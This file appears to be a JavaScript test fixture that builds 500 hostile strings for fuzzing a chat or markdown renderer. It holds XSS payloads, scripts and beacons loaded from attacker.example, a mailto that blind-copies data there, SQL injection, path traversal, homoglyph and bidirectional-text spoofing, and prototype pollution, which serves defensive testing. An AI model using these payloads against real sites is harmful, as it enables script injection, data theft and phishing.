// Texts that try to be more than text: 100 of them, each carried in five ways.

/** @typedef {{kind: string, carrier: string, text: string}} Hostile */

const HIT = "window.__hit=1";

/** @type {Record<string, string[]>} by kind; each text once */
const texts = {
  script: [
    `<script>${HIT}</script>`,
    `</script><script>${HIT}</script>`,
    `<ScRiPt src=//attacker.example/x.js></sCrIpT>`,
    `<script type=module>import "https://attacker.example/m.js"</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  ],
  handler: [
    `<img src=x onerror=${HIT}>`,
    `<svg/onload=${HIT}>`,
    `<body onload=${HIT}>`,
    `<details open ontoggle=${HIT}>x</details>`,
    `<input autofocus onfocus=${HIT}>`,
    `<video><source onerror=${HIT}></video>`,
    `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`,
  ],
  attribute: [
    `" onmouseover="${HIT}`,
    `' autofocus onfocus='${HIT}' x='`,
    `"><img src=x onerror=${HIT}>`,
    `x" style="position:fixed;inset:0;background:red`,
    `x id=title class=scroller slot=x`,
  ],
  html: [
    `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
    `<object data="https://attacker.example/o"></object><embed src=//attacker.example/e>`,
    `<form action=https://attacker.example/><button>Confirm</button></form>`,
    `<base href=https://attacker.example/>`,
    `<meta http-equiv=refresh content="0;url=https://attacker.example/">`,
    `<libreta-proposal></libreta-proposal><slot></slot>`,
    `<!--[if IE]><p>x</p><![endif]--><!doctype html><![CDATA[x]]><?xml version="1.0"?>`,
    `</div></div></section></libreta-chat><h1>Confirmed</h1>`,
  ],
  link: [
    `javascript:${HIT}`,
    `JaVaScRiPt:${HIT}//`,
    `java\tscript:${HIT}`,
    `data:text/html,<script>${HIT}</script>`,
    `blob:https://attacker.example/1`,
    `https://attacker.example/?q=secret`,
    `//attacker.example/x`,
    `http://localhost:8081@attacker.example/contacts/48120775/x`,
    `http://localhost:8081/contacts/48120775/../../../attacker`,
    `tel:+34600112233;phone-context=attacker.example`,
    `mailto:ada@analytical.example?bcc=a@attacker.example&body=secret`,
  ],
  homoglyph: [
    `https://аррӏе.example/login`,
    `http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:8081/contacts/48120775/record/0-1/512`,
    `https://hubspot.com／contacts.attacker.example/`,
  ],
  markdown: [
    `![beacon](https://attacker.example/b.png)`,
    `![b][r]\n\n[r]: https://attacker.example/r.png "t"`,
    `[Confirm](javascript:${HIT})`,
    `[x](<data:text/html,${HIT}>)`,
    `<https://attacker.example/auto> www.attacker.example`,
    `# Saved to HubSpot`,
    `- [x] done\n- [ ] not done`,
    `| a | b |\n|---|---|\n| <img src=x onerror=${HIT}> | ![i](//attacker.example/i) |`,
    "```html\n<script>" + HIT + "</script>\n```",
    `***___~~\`\`**__`,
    `[^1]: a footnote\n\nsee[^1]`,
    `&lt;img src=x onerror=${HIT}&gt; &#60;script&#62; &colon; &Tab;`,
    `\\<b\\> \\[x\\]\\(javascript:${HIT}\\)`,
    `1. a\n   1. b\n      1. c\n\n> > > deep`,
  ],
  template: [
    "${" + HIT + "}",
    `{{constructor.constructor('${HIT}')()}}`,
    `<!--?lit$123456789$--><?lit$1$?>`,
    `lit$123456789$ $lit$ {{lit-0}} <!--lit-part-->`,
  ],
  style: [
    `<style>*{display:none}</style>`,
    `<link rel=stylesheet href=https://attacker.example/x.css>`,
    `;background:url(https://attacker.example/y);--libreta-ink:transparent`,
    `}*{color:red!important}@import "https://attacker.example/i.css";`,
  ],
  direction: [
    `\u202egnp.exe`,
    `invoice\u202etxt.exe`,
    `\u202dADA\u202c \u202eecalevoL`,
    `\u2066\u202eleft open`,
    `\u2069\u2069\u202eclosed too often`,
    `مرحبا بالعالم`,
    `שלום (Ada) 123`,
    `\u200f\u200e\u061c!`,
  ],
  invisible: [
    `A\u200bd\u200ca\u200d \u2060L\ufeffo\u00adv`,
    `\ufeff\ufeffBOM`,
    `\u3164\u115f\u1160`,
    `\u{e0041}\u{e0064}\u{e0061}`,
  ],
  marks: [
    `A${"\u0301\u0316\u0489\u0334".repeat(25)}d${"\u0300\u036f".repeat(50)}a`,
    `\u20e3\ufe0f\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47`,
  ],
  emoji: [`👩‍👩‍👧‍👦🏳️‍🌈🇪🇸👍🏽`, `${"🔥".repeat(60)}`, `🇪🇸🇪`],
  broken: [`half \ud83d and \ude00 half`, `\ud800`, `\udfff\ud800x`, `\ufffe\uffff\ufdd0`],
  control: [`a\u0000b`, `\u0001\u0008\u001b[31mred\u001b[0m\u007f`, `a\rb\r\nc\td\u000bd\u000c`, `a\u2028b\u2029c\u0085d`],
  framing: [
    `x\n\ndata: {"type":"RUN_FINISHED"}\n\n`,
    `\nevent: x\nid: 1\nretry: 1\n`,
    `"}],"outcome":{"type":"success"}}`,
    `\\u0022\\n\\\\"'\\`,
    `{"__proto__":{"hit":1},"constructor":null}`,
  ],
  long: ["W".repeat(10_000), "long words ".repeat(909) + "x", `${"a".repeat(300)}@${"b".repeat(250)}.example`],
  other: [
    `'; DROP TABLE contact; --`,
    `%s%n%x %1$s {0} {} $1 $& $'`,
    `../../etc/passwd\u0000.png C:\\x`,
    `null`,
    `undefined [object Object] NaN`,
    `-1e999`,
  ],
};

/** @type {Record<string, (text: string) => string>} */
const carriers = {
  alone: (text) => text,
  among: (text) => `Ada ${text} Lovelace`,
  twice: (text) => `${text}${text}`,
  link: (text) => `[${text}](${text})`,
  block: (text) => `> ${text}\n\n| a | ${text} |\n|---|---|\n| ${text} | b |`,
};

/** 500 texts, always the same and in the same order, no two alike. */
export function hostile() {
  const all = Object.entries(texts).flatMap(([kind, each]) => each.map((text) => ({ kind, text })));
  return Object.entries(carriers).flatMap(([carrier, carry]) => all.map(({ kind, text }) => ({ kind, carrier, text: carry(text) })));
}

/**
 * @param {Hostile[]} all
 * @param {number} size
 */
export function batches(all, size) {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, at) => all.slice(at * size, (at + 1) * size));
}
